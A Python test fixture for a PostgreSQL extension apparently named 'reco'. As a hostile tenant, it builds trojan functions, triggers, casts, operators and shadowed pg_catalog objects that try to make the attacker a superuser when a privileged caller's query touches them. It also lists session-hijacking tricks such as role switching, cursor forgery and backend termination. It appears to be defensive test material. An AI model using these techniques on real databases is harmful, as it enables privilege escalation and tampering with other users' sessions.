"""What a hostile tenant can make with the rights of any login role: objects that act when somebody else's call touches them.

Whatever of it runs with other rights than the attacker's own says so: `evil.trap` warns, which no transaction takes back, writes a row
into `evil.pwned`, and makes the attacker a superuser where the rights suffice.
"""

ATTACKER = "attacker"

TRAP = """
CREATE TABLE evil.pwned (what pg_catalog.text, who pg_catalog.name);
GRANT ALL ON evil.pwned TO PUBLIC;
CREATE FUNCTION evil.trap(what pg_catalog.text) RETURNS pg_catalog.bool
    LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog AS $$
BEGIN
    IF current_user <> 'attacker' THEN
        RAISE WARNING 'pwned: % ran as %', what, current_user;
        BEGIN INSERT INTO evil.pwned VALUES (what, current_user); EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN ALTER ROLE attacker SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
    END IF;
    RETURN true;
END $$;
-- The same for where PostgreSQL wants a promise; it takes the attacker's word.
CREATE FUNCTION evil.quiet_trap(what pg_catalog.text) RETURNS pg_catalog.bool
    LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog AS $$ BEGIN RETURN evil.trap(what); END $$;
"""

TYPES = """
CREATE COLLATION evil.odd FROM pg_catalog."C";
CREATE DOMAIN evil.id AS pg_catalog.int8 CHECK (evil.trap('domain id'));
CREATE DOMAIN evil.amount AS pg_catalog.float8 CHECK (evil.trap('domain amount'));
CREATE DOMAIN evil.words AS pg_catalog.text COLLATE evil.odd CHECK (evil.trap('domain words'));
CREATE TYPE evil.colour AS ENUM ('red', 'green', 'blue', '黑', 'a "quoted" one');
"""

TABLES = """
CREATE FUNCTION evil.doubled(pg_catalog.float8) RETURNS pg_catalog.float8 LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM evil.trap('generated column'); RETURN 2 * $1; END $$;
CREATE FUNCTION evil.fire() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.trap('trigger'); RETURN NEW; END $$;

CREATE TABLE evil.purchase (user_id evil.id, item_id evil.id, weight evil.amount DEFAULT evil.trap('default')::int,
    ts timestamptz, event text COLLATE evil.odd, twice double precision GENERATED ALWAYS AS (evil.doubled(weight)) STORED);
INSERT INTO evil.purchase SELECT u, (u * 7 + i * i * 3 + u * i) % 20, 1 + (u + i) % 3, timestamptz '2026-01-01' + u * interval '1 hour' + i * interval '1 day',
                                 CASE WHEN i % 2 = 0 THEN 'view' ELSE 'buy' END
                            FROM generate_series(1, 24) u, generate_series(1, 6) i;
CREATE TABLE evil.word_purchase AS SELECT 'u' || user_id AS user_id, 'i' || item_id AS item_id, weight::real AS weight FROM evil.purchase;
CREATE TABLE evil.uuid_purchase AS SELECT lpad(user_id::text, 32, '0')::uuid AS user_id, lpad(item_id::text, 32, '0')::uuid AS item_id FROM evil.purchase;
CREATE TABLE evil.item (item_id evil.id, kind evil.colour, title evil.words, price evil.amount);
INSERT INTO evil.item SELECT i, (enum_range(NULL::evil.colour))[1 + i % 4], 'item ' || i, i FROM generate_series(0, 19) i;
CREATE TABLE evil.document (id evil.id, text evil.words);
INSERT INTO evil.document SELECT i, 'red wine and tea ' || i FROM generate_series(1, 12) i;

CREATE TABLE evil.sample (id evil.id, x evil.amount, y integer, features real[], colour evil.colour, label text COLLATE evil.odd, truth boolean);
INSERT INTO evil.sample SELECT i, (i % 2) * 3 + (i * 7 % 11) / 10.0, i * 13 % 17, ARRAY[i % 2, (i * 7 % 11) / 10.0],
                               (enum_range(NULL::evil.colour))[1 + i % 5], CASE WHEN i % 2 = 0 THEN 'even' ELSE 'odd' END, i % 2 = 0
                          FROM generate_series(1, 48) i;
-- Only what rows are told apart by may hold these.
CREATE TABLE evil.tagged AS SELECT id, x, ARRAY[colour, 'red'] AS tags, ARRAY[label::evil.words] AS words, to_jsonb(y) AS note, label
                            FROM evil.sample;
"""

# Fire when anybody writes, or as policies say: reading the tables must set nothing of it off.
HOOKS = """
CREATE TRIGGER fire BEFORE INSERT OR UPDATE OR DELETE ON evil.{table} FOR EACH ROW EXECUTE FUNCTION evil.fire();
CREATE TRIGGER fire_late AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON evil.{table} FOR EACH STATEMENT EXECUTE FUNCTION evil.fire();
CREATE RULE also AS ON INSERT TO evil.{table} DO ALSO SELECT evil.trap('rule');
CREATE RULE instead AS ON DELETE TO evil.{table} DO INSTEAD SELECT evil.trap('rule');
ALTER TABLE evil.{table} ENABLE ROW LEVEL SECURITY;
CREATE POLICY everything ON evil.{table} FOR SELECT USING (true);
CREATE POLICY writing ON evil.{table} FOR INSERT WITH CHECK (evil.trap('policy'));
CREATE INDEX ON evil.{table} (evil.quiet_trap({column}::text));
"""
HOOKED = {"purchase": "user_id", "item": "item_id", "document": "id", "sample": "id"}

# A late trigger, deferred to the end of the transaction, when the caller's rights are back.
LATE = """
CREATE TABLE evil.late (i integer);
CREATE FUNCTION evil.late_fire() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.trap('deferred trigger'); RETURN NULL; END $$;
CREATE CONSTRAINT TRIGGER late AFTER INSERT ON evil.late DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION evil.late_fire();
CREATE FUNCTION evil.as_row() RETURNS integer LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.trap('held cursor'); RETURN 1; END $$;
"""

# A model's queries call this: once as they run, it does what `evil.trick` says, with whatever rights it is given.
ACT = """
CREATE TABLE evil.trick (statement pg_catalog.text);
CREATE FUNCTION evil.act(place pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql VOLATILE AS $$
DECLARE
    trick pg_catalog.text := (SELECT t.statement FROM evil.trick t);
BEGIN
    PERFORM evil.trap(place);
    IF trick IS NOT NULL THEN
        BEGIN EXECUTE trick; EXCEPTION WHEN OTHERS THEN NULL; END;
    END IF;
    RETURN true;
END $$;
"""


def casts():
    """From the enum and its arrays to whatever a reader may turn them into."""
    makers = []
    for source, wanted in (
        ("evil.colour", ("json", "jsonb", "text", "varchar", "int4", "int8", "float4", "float8", "numeric", "bool")),
        ("evil.colour[]", ("json", "jsonb", "text")),
        ("evil.item", ("json", "jsonb", "text")),
        ("evil.sample", ("json", "jsonb", "text")),
    ):
        for target in wanted:
            function = f"evil.{source.removeprefix('evil.').replace('[]', '_list')}_as_{target}"
            value = {"json": "'\"cast\"'", "jsonb": "'\"cast\"'", "text": "'cast'", "varchar": "'cast'", "bool": "true"}.get(target, "7")
            makers.append(
                f"""CREATE FUNCTION {function}({source}) RETURNS pg_catalog.{target} LANGUAGE plpgsql AS
                    $$ BEGIN PERFORM evil.trap('cast to {target}'); RETURN {value}; END $$;
                    CREATE CAST ({source} AS pg_catalog.{target}) WITH FUNCTION {function}({source}) AS IMPLICIT;"""
            )
    return "\n".join(makers)


OPERATORS = ["=", "<>", "<", ">", "<=", ">=", "||", "~~", "~", "+", "-", "*", "/", "->", "->>", "@>"]
OPERANDS = ["text", "int4", "int8", "float4", "float8", "uuid", "name", "oid", "bool", "bytea", "timestamptz"]
COMPARED = ["evil.colour", "reco.role"]


def operators():
    """The operators of pg_catalog for the usual types, and for what has none of its own, to be found first under `search_path = evil, pg_catalog`."""
    made = []
    for operand in [f"pg_catalog.{operand}" for operand in OPERANDS] + COMPARED:
        for number, operator in enumerate(OPERATORS):
            function = f"evil.operator_{number}"
            made.append(
                f"""CREATE FUNCTION {function}({operand}, {operand}) RETURNS pg_catalog.bool LANGUAGE plpgsql AS
                    $$ BEGIN PERFORM evil.trap('operator {operator} of {operand}'); RETURN true; END $$;
                    CREATE OPERATOR evil.{operator} (LEFTARG = {operand}, RIGHTARG = {operand}, FUNCTION = {function});"""
            )
    return "\n".join(made)


# Arguments, result, and the value that pg_catalog's own function gives.
FUNCTIONS = [
    ("now()", "timestamptz", "pg_catalog.now()"),
    ("clock_timestamp()", "timestamptz", "pg_catalog.clock_timestamp()"),
    ("pg_has_role(pg_catalog.name, pg_catalog.oid, pg_catalog.text)", "bool", "true"),
    ("pg_has_role(pg_catalog.name, pg_catalog.name, pg_catalog.text)", "bool", "true"),
    ("lower(pg_catalog.text)", "text", "pg_catalog.lower($1)"),
    ("length(pg_catalog.text)", "int4", "pg_catalog.length($1)"),
    ("length(pg_catalog.bytea)", "int4", "pg_catalog.length($1)"),
    ("octet_length(pg_catalog.bytea)", "int4", "pg_catalog.octet_length($1)"),
    ("quote_ident(pg_catalog.text)", "text", "pg_catalog.quote_ident($1)"),
    ("quote_literal(pg_catalog.text)", "text", "pg_catalog.quote_literal($1)"),
    ("parse_ident(pg_catalog.text)", "text[]", "pg_catalog.parse_ident($1)"),
    ("to_json(pg_catalog.anyelement)", "json", "pg_catalog.to_json($1)"),
    ("to_jsonb(pg_catalog.anyelement)", "jsonb", "pg_catalog.to_jsonb($1)"),
    ("array_to_json(pg_catalog.anyarray)", "json", "pg_catalog.array_to_json($1)"),
    ("array_length(pg_catalog.anyarray, pg_catalog.int4)", "int4", "pg_catalog.array_length($1, $2)"),
    ("encode(pg_catalog.bytea, pg_catalog.text)", "text", "pg_catalog.encode($1, $2)"),
    ("sha256(pg_catalog.bytea)", "bytea", "pg_catalog.sha256($1)"),
    ("random()", "float8", "pg_catalog.random()"),
    ("current_setting(pg_catalog.text)", "text", "pg_catalog.current_setting($1)"),
    ("current_setting(pg_catalog.text, pg_catalog.bool)", "text", "pg_catalog.current_setting($1, $2)"),
    ("set_config(pg_catalog.text, pg_catalog.text, pg_catalog.bool)", "text", "pg_catalog.set_config($1, $2, $3)"),
    ("format_type(pg_catalog.oid, pg_catalog.int4)", "text", "pg_catalog.format_type($1, $2)"),
    ("pg_get_userbyid(pg_catalog.oid)", "name", "pg_catalog.pg_get_userbyid($1)"),
    ("abs(pg_catalog.float8)", "float8", "pg_catalog.abs($1)"),
    ("substring(pg_catalog.bytea, pg_catalog.int4, pg_catalog.int4)", "bytea", "pg_catalog.substring($1, $2, $3)"),
]
# Types that stand first under such a path, each checked by a function of the attacker's.
SHADOWED_TYPES = ["text", "uuid", "jsonb", "name", "oid", "bytea", "timestamptz"]
SHADOWED_TABLES = ["pg_class", "pg_type", "pg_extension", "pg_proc", "pg_database", "pg_roles", "pg_namespace", "pg_settings"]


def shadows():
    """What stands before pg_catalog's own under `search_path = evil, pg_catalog`."""
    made = [
        f"""CREATE FUNCTION evil.{signature} RETURNS pg_catalog.{result} LANGUAGE plpgsql AS
            $$ BEGIN PERFORM evil.trap('function {signature.partition("(")[0]}'); RETURN {value}; END $$;"""
        for signature, result, value in FUNCTIONS
    ]
    made += [f"CREATE DOMAIN evil.{name} AS pg_catalog.{name} CHECK (evil.trap('type {name}'));" for name in SHADOWED_TYPES]
    made += [f"CREATE VIEW evil.{name} AS SELECT * FROM pg_catalog.{name} WHERE evil.trap('table {name}');" for name in SHADOWED_TABLES]
    return "\n".join(made)


def statements():
    """Everything, to be run by the attacker in this order under the usual search_path."""
    hooks = "".join(HOOKS.format(table=table, column=column) for table, column in HOOKED.items())
    # Made last: under them hardly anything of the above could be written.
    return [TRAP, TYPES, TABLES, hooks, LATE, ACT, casts(), operators(), shadows(), GRANTS]


GRANTS = """
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT SELECT ON ALL TABLES IN SCHEMA evil TO PUBLIC;
"""

# Queries of the attacker's models: each does the trick of the day when it runs.
SOURCE = "SELECT user_id, item_id, weight FROM evil.purchase WHERE (SELECT evil.act('source'))"
WORD_SOURCE = "SELECT user_id, item_id, weight FROM evil.word_purchase WHERE (SELECT evil.act('source'))"
UUID_SOURCE = "SELECT user_id, item_id FROM evil.uuid_purchase WHERE (SELECT evil.act('source'))"
ITEMS = "SELECT item_id, kind, title, price FROM evil.item WHERE (SELECT evil.act('items'))"
MODELS = {
    "evil shop": ("ials", SOURCE, {"factors": 2, "iterations": 2}, ITEMS),
    "evil words": ("item_knn", WORD_SOURCE, {}, None),
    "evil uuids": ("ials", UUID_SOURCE, {"factors": 2, "iterations": 2}, None),
    "evil favourites": ("popularity", SOURCE, {}, None),
}
SYNTHESIZER = "evil rows"
PREDICTOR = "evil predictor"
INDEX = "evil search"
TITLES = "SELECT item_id AS id, title FROM evil.item WHERE (SELECT evil.act('titles'))"
SAMPLE = "SELECT id, x, y, features, colour, label FROM evil.sample WHERE (SELECT evil.act('sample'))"

# What a model's query may try while somebody else's call runs it; each fails or leaves nothing.
TRICKS = {
    "search_path": "SELECT set_config('search_path', 'evil, pg_catalog', false)",
    "search_path for the transaction": "SELECT set_config('search_path', 'evil, pg_catalog', true)",
    "SET": "SET search_path = evil, pg_catalog",
    "SET LOCAL": "SET LOCAL work_mem = '64kB'",
    "many settings": """SELECT set_config('work_mem', '64kB', false), set_config('statement_timeout', '3s', false), set_config('DateStyle', 'SQL, DMY', false),
                               set_config('TimeZone', 'Asia/Tokyo', false), set_config('default_transaction_read_only', 'on', false),
                               set_config('row_security', 'off', false), set_config('check_function_bodies', 'off', false)""",
    "settings of the extension": """SELECT set_config('reco.max_batch', '1', false), set_config('reco.threads', '1', false),
                               set_config('reco.embedding_model', 'evil', false), set_config('reco.execution_provider', 'cpu', false)""",
    "silence": "SELECT set_config('client_min_messages', 'error', false)",
    "a setting of its own": "SELECT set_config('evil.mark', 'here', false)",
    "RESET ALL": "RESET ALL",
    "role": "SELECT set_config('role', 'plain_victim', false)",
    "no role": "SELECT set_config('role', 'none', false)",
    "RESET ROLE": "DO $$ BEGIN RESET ROLE; PERFORM evil.trap('RESET ROLE'); END $$",
    "SET ROLE": "SET ROLE root_victim",
    "session_authorization": "SELECT set_config('session_authorization', 'root_victim', false)",
    "SET SESSION AUTHORIZATION": "DO $$ BEGIN SET SESSION AUTHORIZATION DEFAULT; PERFORM evil.trap('authorization'); END $$",
    "to be superuser": "ALTER ROLE attacker SUPERUSER",
    "advisory lock": "SELECT pg_advisory_lock(666), pg_advisory_lock_shared(667), pg_try_advisory_lock(6, 68)",
    "the caller's advisory lock": "SELECT pg_advisory_unlock(pg_backend_pid())",
    "advisory_unlock_all": "SELECT pg_advisory_unlock_all()",
    "CLOSE": "CLOSE victims",
    "CLOSE ALL": "CLOSE ALL",
    "FETCH": "FETCH 3 FROM victims",
    "MOVE": "MOVE ALL FROM victims",
    "a cursor left open": "DO $$ DECLARE c refcursor := 'left open'; BEGIN OPEN c FOR SELECT 1; END $$",
    "DECLARE": "DECLARE left_declared CURSOR FOR SELECT evil.as_row()",
    "DECLARE WITH HOLD": "DECLARE left_held CURSOR WITH HOLD FOR SELECT evil.as_row()",
    "another cursor in its place": """DO $$ DECLARE c refcursor := 'victims'; BEGIN CLOSE c; OPEN c FOR SELECT 'forged'; END $$""",
    "every portal in turn": """DO $$ DECLARE c record; BEGIN FOR c IN SELECT name FROM pg_cursors LOOP
                                  BEGIN EXECUTE format('CLOSE %I', c.name); EXECUTE format('DECLARE %I CURSOR FOR SELECT ''forged''', c.name);
                                  EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END $$""",
    "unnamed portals": """DO $$ BEGIN FOR i IN 1 .. 40 LOOP BEGIN EXECUTE format('CLOSE %I', '<unnamed portal ' || i || '>');
                             EXECUTE format('DECLARE %I CURSOR FOR SELECT ''forged''', '<unnamed portal ' || i || '>');
                             EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END $$""",
    "PREPARE": "PREPARE left_prepared AS SELECT 1",
    "DEALLOCATE": "DEALLOCATE victims_own",
    "DEALLOCATE ALL": "DEALLOCATE ALL",
    "LISTEN": "LISTEN evil",
    "UNLISTEN": "UNLISTEN *",
    "NOTIFY": "NOTIFY victims_channel",
    "temporary table": "CREATE TEMP TABLE left_behind (i integer)",
    "temporary view": "CREATE TEMP VIEW left_behind_view AS SELECT 1",
    "temporary function": "CREATE FUNCTION pg_temp.lower(pg_catalog.text) RETURNS pg_catalog.text LANGUAGE sql AS 'SELECT 1'",
    "DISCARD": "DISCARD ALL",
    "read only": "SET TRANSACTION READ ONLY",
    "deferred constraints": "SET CONSTRAINTS ALL DEFERRED",
    "deferred trigger": "INSERT INTO evil.late VALUES (1)",
    "COMMIT": "DO $$ BEGIN COMMIT; END $$",
    "SAVEPOINT": "SAVEPOINT evil",
    "exception": "DO $$ BEGIN RAISE EXCEPTION USING MESSAGE = 'evil', ERRCODE = 'XX000'; END $$",
    "exceptions in numbers": "DO $$ BEGIN FOR i IN 1 .. 200 LOOP BEGIN PERFORM 1 / 0; EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END $$",
    "recursion": "SELECT * FROM reco.recommend('evil shop', 3)",
    "recursion into others": "SELECT count(*) FROM reco.recommend_all('evil shop'), reco.explain('evil shop', 3, 4)",
    "endless recursion": "SELECT evil.act('again')",
    "training itself": "SELECT reco.train('evil nested', 'TABLE evil.word_purchase', 'popularity')",
    "dropping the model": "SELECT reco.drop_model('evil nested')",
    "unloading the model": "SELECT reco.unload('evil shop'), reco.unload('evil words'), reco.unload('evil favourites')",
    "embedding": "SELECT reco.embed('red wine', 'tiny'), (SELECT count(*) FROM reco.embed_query('TABLE evil.document', 'tiny'))",
    "DDL": "CREATE TABLE evil.made (i integer); ALTER TABLE evil.made ADD j text; DROP TABLE evil.made",
    "DDL of the source": "ALTER TABLE evil.purchase ADD COLUMN more integer; ALTER TABLE evil.purchase DROP COLUMN more",
    "cancel": "SELECT pg_cancel_backend(pg_backend_pid())",
    "terminate": "SELECT pg_terminate_backend(pg_backend_pid())",
    "LOCK": "LOCK TABLE evil.item IN ACCESS EXCLUSIVE MODE",
    "large object": "SELECT lo_unlink(lo_create(0))",
    "dblink": "SELECT dblink_connect('left', 'dbname=postgres user=root_victim')",
    "LOAD": "LOAD 'plpgsql'",
    "nothing of the kind": "SELECT 1",
}
